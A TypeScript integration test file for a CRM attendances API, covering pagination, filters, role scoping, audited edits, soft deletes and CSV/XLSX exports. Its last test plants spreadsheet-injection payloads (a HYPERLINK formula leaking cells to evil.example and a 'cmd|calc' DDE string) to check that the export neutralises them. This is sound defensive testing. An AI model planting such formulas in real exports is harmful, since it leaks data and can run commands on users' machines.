import ExcelJS from 'exceljs';
import type { AttendanceListItem } from '@fasto/contracts';
import { binaryBody, catalogOf, insertAttendances } from './support/attendance-fixtures';
import { client, DEMO, type Client } from './support/auth-helpers';
import { startTestApp, type TestApp } from './support/test-app';

describe('attendances', () => {
  let t: TestApp;
  let admin: Client;
  let manager: Client;
  let agent: Client;
  let acmeAdmin: Client;
  let ids: { alpha: string; beta: string; alice: string; bruno: string; diego: string; proposta: string; ganho: string; acmeAttendance: string };

  beforeAll(async () => {
    t = await startTestApp({ seed: true });
    [admin, manager, agent, acmeAdmin] = await Promise.all([client(t, DEMO.admin), client(t, DEMO.manager), client(t, DEMO.agent), client(t, DEMO.acmeAdmin)]);
    const tenantId = admin.session.body.user.tenantId;
    const c = await catalogOf(t, tenantId);
    const alpha = c.team('Equipe Alpha');
    ids = {
      alpha: alpha.id,
      beta: c.team('Equipe Beta').id,
      alice: c.user(DEMO.agent).id,
      bruno: c.user(DEMO.otherAgent).id,
      diego: c.user('diego@demo.fasto.app').id,
      proposta: c.stage('Proposta', alpha.funnelId!).id,
      ganho: c.stage('Venda Fechada', alpha.funnelId!).id,
      acmeAttendance: '',
    };
    const day = (n: number, hour = 15) => new Date(Date.UTC(2026, 2, n, hour));
    const rows = [];
    for (let n = 1; n <= 25; n++) {
      rows.push({
        tenantId,
        userId: n % 2 ? ids.alice : ids.bruno,
        teamId: ids.alpha,
        funnelStageId: n % 5 === 0 ? ids.ganho : ids.proposta,
        converted: n % 5 === 0,
        score: 40 + n,
        customerName: n === 7 ? 'Zélia Ramos' : `Cliente ${n}`,
        title: `Proposta ${n}`,
        attendedAt: day(n),
      });
    }
    rows.push({
      tenantId,
      userId: ids.diego,
      teamId: ids.beta,
      score: 99,
      customerName: 'Beta Cliente',
      attendedAt: day(3),
      fullSummary: 'Resumo longo da IA',
    });
    await insertAttendances(t, rows);
    const [acme] = await insertAttendances(t, [{ tenantId: acmeAdmin.session.body.user.tenantId, attendedAt: day(4), customerName: 'Acme Cliente' }]);
    ids.acmeAttendance = acme.id;
  });
  afterAll(() => t.close());

  const names = (items: AttendanceListItem[]) => items.map((item) => item.customerName);

  it('lists newest first with names and colors, keyset page after page', async () => {
    const first = await admin.get('/api/attendances?limit=10').expect(200);
    expect(first.body.items).toHaveLength(10);
    expect(first.body.items[0]).toMatchObject({
      customerName: 'Cliente 25',
      agent: { name: 'Alice Atendente' },
      team: { name: 'Equipe Alpha' },
      stage: { name: 'Venda Fechada', color: 'bg-green-500' },
    });
    expect(first.body.items[0]).not.toHaveProperty('fullSummary');
    const seen = [...names(first.body.items)];
    let cursor = first.body.nextCursor;
    while (cursor) {
      const page = await admin.get(`/api/attendances?limit=10&cursor=${cursor}`).expect(200);
      seen.push(...names(page.body.items));
      cursor = page.body.nextCursor;
    }
    expect(seen).toHaveLength(26);
    expect(new Set(seen).size).toBe(26);
    expect(seen).not.toContain('Acme Cliente');
    const capped = await admin.get('/api/attendances?limit=5000').expect(200);
    expect(capped.body.items).toHaveLength(26);
  });

  it('filters by day range (tenant days), agent, stage, conversion, score and text', async () => {
    const march3 = await admin.get('/api/attendances?from=2026-03-03&to=2026-03-03').expect(200);
    expect(names(march3.body.items).sort()).toEqual(['Beta Cliente', 'Cliente 3']);
    const bruno = await admin.get(`/api/attendances?userId=${ids.bruno}&converted=true`).expect(200);
    expect(names(bruno.body.items)).toEqual(['Cliente 20', 'Cliente 10']);
    const stage = await admin.get(`/api/attendances?stageId=${ids.ganho}`).expect(200);
    expect(stage.body.items).toHaveLength(5);
    const scores = await admin.get('/api/attendances?minScore=60&maxScore=62').expect(200);
    expect(names(scores.body.items)).toEqual(['Cliente 22', 'Cliente 21', 'Cliente 20']);
    const text = await admin.get('/api/attendances?q=zélia').expect(200);
    expect(names(text.body.items)).toEqual(['Zélia Ramos']);
    const wildcard = await admin.get('/api/attendances?q=%25').expect(200);
    expect(wildcard.body.items).toHaveLength(0);
  });

  it('validates filters', async () => {
    await admin.get('/api/attendances?from=2026-13-01').expect(400);
    await admin.get('/api/attendances?from=2026-03-10&to=2026-03-01').expect(400);
    await admin.get('/api/attendances?from=2020-01-01&to=2026-01-01').expect(400);
    await admin.get('/api/attendances?minScore=101').expect(400);
    await admin.get('/api/attendances?converted=maybe').expect(400);
    await admin.get('/api/attendances?teamId=not-a-uuid').expect(400);
    await admin.get('/api/attendances?tenantId=x').expect(400);
  });

  it('refuses days before 2000-01-01 in the list, the export and the dashboard, naming the field', async () => {
    const cases: [string, string][] = [
      ['/api/attendances?from=1999-12-31&to=2000-01-05', 'from'],
      ['/api/attendances/export?format=csv&from=0100-01-01&to=0100-01-02', 'from'],
      ['/api/dashboard?from=1999-01-01&to=1999-12-31', 'from'],
    ];
    for (const [url, field] of cases) {
      const response = await admin.get(url).expect(400);
      expect(response.body.details).toEqual([{ field, messages: [`${field} must not be before 2000-01-01`] }]);
    }
    await admin.get('/api/attendances?from=2000-01-01&to=2000-01-05').expect(200);
  });

  it('bounds the text search: q longer than 100 characters is a 400 naming q, on the list and the export', async () => {
    await admin.get(`/api/attendances?q=${'a'.repeat(100)}`).expect(200);
    for (const url of [`/api/attendances?q=${'a'.repeat(101)}`, `/api/attendances/export?format=csv&q=${'a'.repeat(5000)}`]) {
      const response = await admin.get(url).expect(400);
      expect(response.body.details).toEqual([{ field: 'q', messages: ['q must be shorter than or equal to 100 characters'] }]);
    }
  });

  it('scopes: agents see themselves, managers their team; filters never widen it', async () => {
    const own = await agent.get('/api/attendances?limit=200').expect(200);
    expect(own.body.items.every((item: AttendanceListItem) => item.agent?.id === ids.alice)).toBe(true);
    expect(own.body.items).toHaveLength(13);
    await agent.get(`/api/attendances?userId=${ids.bruno}`).expect(403);
    await agent.get(`/api/attendances?teamId=${ids.beta}`).expect(403);

    const team = await manager.get('/api/attendances?limit=200').expect(200);
    expect(team.body.items).toHaveLength(25);
    expect(names(team.body.items)).not.toContain('Beta Cliente');
    await manager.get(`/api/attendances?teamId=${ids.beta}`).expect(403);
    const diegoRows = await manager.get(`/api/attendances?userId=${ids.diego}`).expect(200);
    expect(diegoRows.body.items).toEqual([]);
  });

  it('shows one attendance in scope with its full summary; 404 outside it', async () => {
    const list = await admin.get('/api/attendances?q=Beta Cliente').expect(200);
    const betaId = list.body.items[0].id;
    const detail = await admin.get(`/api/attendances/${betaId}`).expect(200);
    expect(detail.body).toMatchObject({ fullSummary: 'Resumo longo da IA', agent: { name: 'Diego Ramos' }, stage: null });
    await manager.get(`/api/attendances/${betaId}`).expect(404);
    await agent.get(`/api/attendances/${betaId}`).expect(404);
    await admin.get(`/api/attendances/${ids.acmeAttendance}`).expect(404);
    await acmeAdmin.patch(`/api/attendances/${betaId}`, { converted: true }).expect(404);
    await acmeAdmin.delete(`/api/attendances/${betaId}`).expect(404);
  });

  it('lets admins and managers correct an attendance (audited, dashboard follows), agents not', async () => {
    const target = (await manager.get('/api/attendances?q=Cliente 11').expect(200)).body.items[0];
    const before = (await admin.get('/api/dashboard?from=2026-03-11&to=2026-03-11').expect(200)).body.totals;
    const updated = await manager.patch(`/api/attendances/${target.id}`, { converted: true, saleValue: 321.5, funnelStageId: ids.ganho }).expect(200);
    expect(updated.body).toMatchObject({ converted: true, saleValue: 321.5, stage: { name: 'Venda Fechada' } });
    const after = (await admin.get('/api/dashboard?from=2026-03-11&to=2026-03-11').expect(200)).body.totals;
    expect(after).toMatchObject({ attendances: before.attendances, converted: before.converted + 1, saleValue: before.saleValue + 321.5 });
    const [audit] = await t.dataSource.query("SELECT changes FROM audit_logs WHERE action = 'attendance.updated' AND entity_id = ?", [target.id]);
    expect(JSON.parse(audit.changes)).toMatchObject({ converted: { from: false, to: true }, saleValue: { from: null, to: 321.5 } });

    await agent.patch(`/api/attendances/${target.id}`, { converted: false }).expect(403);
    await manager.patch(`/api/attendances/${target.id}`, { funnelStageId: '0b7f3c44-5a3e-4c55-8a55-0e0e0e0e0e0e' }).expect(404);
    await manager.patch(`/api/attendances/${target.id}`, { saleValue: -1 }).expect(400);
    await manager.patch(`/api/attendances/${target.id}`, { saleValue: 1e-7 }).expect(400);
    await manager.patch(`/api/attendances/${target.id}`, { score: 100 }).expect(400);
  });

  it('soft-deletes (admin only): gone from lists and dashboards, kept in the table', async () => {
    const target = (await admin.get('/api/attendances?q=Cliente 12').expect(200)).body.items[0];
    await manager.delete(`/api/attendances/${target.id}`).expect(403);
    const before = (await admin.get('/api/dashboard?from=2026-03-12&to=2026-03-12').expect(200)).body.totals.attendances;
    await admin.delete(`/api/attendances/${target.id}`).expect(204);
    await admin.get(`/api/attendances/${target.id}`).expect(404);
    expect((await admin.get('/api/dashboard?from=2026-03-12&to=2026-03-12').expect(200)).body.totals.attendances).toBe(before - 1);
    const [row] = await t.dataSource.query('SELECT deleted_at AS deletedAt FROM attendances WHERE id = ?', [target.id]);
    expect(row.deletedAt).not.toBeNull();
    await admin.delete(`/api/attendances/${target.id}`).expect(404);
  });

  it('exports CSV for Excel in pt-BR: BOM, semicolons, Portuguese headers, local dates, decimal commas', async () => {
    const response = await admin.get('/api/attendances/export?format=csv&from=2026-03-01&to=2026-03-02').buffer(true).parse(binaryBody);
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toMatch(/text\/csv/);
    expect(response.headers['content-disposition']).toMatch(/attachment; filename="atendimentos-\d{4}-\d{2}-\d{2}\.csv"/);
    const body = response.body as Buffer;
    expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = body.toString('utf8').slice(1).trim().split('\n');
    expect(lines[0]).toBe(
      'Data;Atendente;Equipe;Cliente;Telefone;Canal;Título;Etapa;Origem;Nota;1ª resposta (min);Duração (min);Venda fechada;Valor da venda;Resumo;ID externo',
    );
    expect(lines).toHaveLength(3);
    // 15:00 UTC on 2 March is 12:00 in São Paulo.
    expect(lines[1]).toMatch(/^02\/03\/26 12:00;Bruno Souza;Equipe Alpha;Cliente 2;/);
    expect(lines[1]).toContain(';Não;');
    expect(lines[1].split(';')[5]).toMatch(/^(WhatsApp|Instagram|Outro)$/);
  });

  it('exports in English when asked (the web app sends its language): commas, decimal points, ISO dates, no Portuguese', async () => {
    const response = await admin.get('/api/attendances/export?format=csv&lang=en&from=2026-03-01&to=2026-03-02').buffer(true).parse(binaryBody);
    expect(response.status).toBe(200);
    expect(response.headers['content-disposition']).toMatch(/attachment; filename="attendances-\d{4}-\d{2}-\d{2}\.csv"/);
    const lines = (response.body as Buffer).toString('utf8').slice(1).trim().split('\n');
    expect(lines[0]).toBe(
      'Date,Agent,Team,Customer,Phone,Channel,Title,Stage,Origin,Score,First response (min),Duration (min),Sale closed,Sale value,Summary,External ID',
    );
    expect(lines[1]).toMatch(/^2026-03-02 12:00,Bruno Souza,Equipe Alpha,Cliente 2,/);
    expect(lines[1]).toContain(',No,');
    expect(lines.join('\n')).not.toMatch(/\b(Sim|Não|Outros|Outro)\b/);
    const xlsx = await admin.get('/api/attendances/export?format=xlsx&lang=en').buffer(true).parse(binaryBody);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.body as never);
    expect(workbook.getWorksheet('Attendances')!.getRow(1).getCell(2).value).toBe('Agent');
    await admin.get('/api/attendances/export?format=csv&lang=fr').expect(400);
  });

  it('exports the same scope as XLSX', async () => {
    const response = await agent.get('/api/attendances/export?format=xlsx').buffer(true).parse(binaryBody);
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(response.body as never);
    const sheet = workbook.getWorksheet('Atendimentos')!;
    expect(sheet.getRow(1).getCell(1).value).toBe('Data');
    expect(sheet.rowCount).toBe(14);
    const agents = new Set<string>();
    sheet.eachRow((row, index) => index > 1 && agents.add(String(row.getCell(2).value)));
    expect([...agents]).toEqual(['Alice Atendente']);
    await admin.get('/api/attendances/export?format=pdf').expect(400);
  });
  it('neutralises formulas a chat text plants in the export, keeps numbers numbers and XLSX text cells', async () => {
    const tenantId = admin.session.body.user.tenantId;
    const planted = '=HYPERLINK("https://evil.example/?leak="&A1,"Clique")';
    await insertAttendances(t, [
      {
        tenantId,
        attendedAt: new Date(Date.UTC(2026, 3, 10, 15)),
        customerName: '@SUM(1+1)',
        customerPhone: '+55 11 99999-0000',
        title: '-2+3',
        summary: planted,
        externalId: '\tcmd|calc',
        saleValue: -12.5,
      },
    ]);
    const csv = await admin.get('/api/attendances/export?format=csv&from=2026-04-10&to=2026-04-10').buffer(true).parse(binaryBody);
    const [, line] = (csv.body as Buffer).toString('utf8').slice(1).trim().split('\n');
    const cells = line.split(';');
    expect(cells[3]).toBe(`"'@SUM(1+1)"`);
    expect(cells[4]).toBe(`"'+55 11 99999-0000"`);
    expect(cells[6]).toBe(`"'-2+3"`);
    // The negative sale value stays a number a spreadsheet can add up.
    expect(cells[13]).toBe('-12,5');
    expect(cells[15]).toBe(`"'\tcmd|calc"`);
    expect(line).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Clique"")"`);
    expect(line).not.toMatch(/;=|;@|;\+|;-2/);

    const xlsx = await admin.get('/api/attendances/export?format=xlsx&from=2026-04-10&to=2026-04-10').buffer(true).parse(binaryBody);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.body as never);
    const cell = workbook.getWorksheet('Atendimentos')!.getRow(2).getCell(15);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(planted);
  });
});
